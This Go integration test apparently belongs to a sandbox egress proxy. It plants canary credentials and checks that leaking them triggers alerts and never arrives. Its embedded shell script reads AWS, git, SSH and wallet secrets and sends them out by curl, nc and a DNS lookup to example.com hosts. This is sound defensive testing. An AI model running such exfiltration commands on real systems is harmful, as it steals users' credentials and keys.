package integration

import (
	"fmt"
	"io"
	"net"
	"regexp"
	"strings"
	"testing"

	"creel/internal/audit/event"

	"github.com/google/go-cmp/cmp"
)

const canaryPolicy = `
rules:
  - {allow: plain.example.com, protocol: http, upstream: PLAIN}
  - {allow: opened.example.com, methods: [GET, POST], upstream: UPSTREAM}
  - {allow: stream.example.com, ports: 7000, upstream: {address: %q}}
`

// Planted credentials are where attackers look, and sending one anywhere is an
// alert: in a header, a body, a path, over TLS that is opened, in a stream that
// nobody looks into otherwise, and in a name. It does not arrive.
func TestClientsCanaries(t *testing.T) {
	r, image := clients(t)
	w := newWorld(t)
	arrived := make(chan string, 8)
	stream := serveStreams(t, func(c net.Conn) error {
		all, err := io.ReadAll(c)
		arrived <- string(all)
		return err
	})
	policy := w.policy(t, fmt.Sprintf(canaryPolicy, stream))
	script := `cd
		for file in .aws/credentials .git-credentials .ssh/id_ed25519 .config/wallet/seed.json; do
			test -s $file && echo "$file is there"
		done
		aws=$(sed -n 's/^aws_secret_access_key = //p' .aws/credentials)
		git=$(sed 's,.*:\(.*\)@.*,\1,' .git-credentials)
		wallet=$(sed 's/.*"seed":"\([^"]*\)".*/\1/' .config/wallet/seed.json)
		curl -sS -w '%{http_code}\n' -o /dev/null -H "Authorization: Bearer $NPM_TOKEN" http://plain.example.com/header/hello
		curl -sS -w '%{http_code}\n' -o /dev/null --data-binary @.ssh/id_ed25519 https://opened.example.com/body/hello
		curl -sS -w '%{http_code}\n' -o /dev/null https://opened.example.com/$git/hello
		curl -sS -w '%{http_code}\n' -o /dev/null "http://plain.example.com/query/hello?k=$aws"
		printf 'look: %s' $aws | nc -N stream.example.com 7000
		getent ahostsv4 $wallet.plain.example.com || echo no such name; echo "marks $wallet $(sed -n 4p .ssh/id_ed25519)"
		curl -sS http://plain.example.com/harmless/hello`
	got := r.Run(t, "run", "--name", "canaries", "--canaries", "--policy", policy, image, "sh", "-c", script)
	want := ".aws/credentials is there\n.git-credentials is there\n.ssh/id_ed25519 is there\n.config/wallet/seed.json is there\n" +
		"403\n403\n403\n403\nno such name\nhello harmless, your key is <>\n"
	marks := regexp.MustCompile(`marks ([a-z]{32}) (\S{70})\n`).FindStringSubmatch(got.Out)
	if marks == nil {
		t.Fatalf("got %+v", got)
	}
	if out := strings.Replace(got.Out, marks[0], "", 1); out != want || got.Code != 0 {
		t.Errorf("got %+v, want %q", got, want)
	}
	var alerts []string
	for _, a := range recordsOf[event.Alert](t, r, "canaries", "alert") {
		alerts = append(alerts, fmt.Sprintf("%s %s for %s in the %s", a.Alert, a.Name, a.Host, a.Where))
	}
	if diff := cmp.Diff([]string{
		"canary npm for plain.example.com in the header", "canary ssh for opened.example.com in the body",
		"canary git for opened.example.com in the path", "canary cloud for plain.example.com in the query",
		"canary cloud for stream.example.com in the stream", "canary wallet for " + marks[1] + ".plain.example.com in the name",
	}, alerts); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
	if all := w.arrived("plain.example.com", "/"); len(all) != 1 || all[0].Path != "/harmless/hello" {
		t.Errorf("arrived: %v", all)
	}
	w.mu.Lock()
	if strings.Contains(w.received.String(), marks[2]) {
		t.Error("the planted key arrived")
	}
	w.mu.Unlock()
	if sent := receive(t, arrived); !strings.HasPrefix("look: ", sent) {
		t.Errorf("of the stream %q arrived", sent)
	}
	if !strings.Contains(got.Err, "with 6 alerts") {
		t.Errorf("at its end the run says %q", got.Err)
	}
}
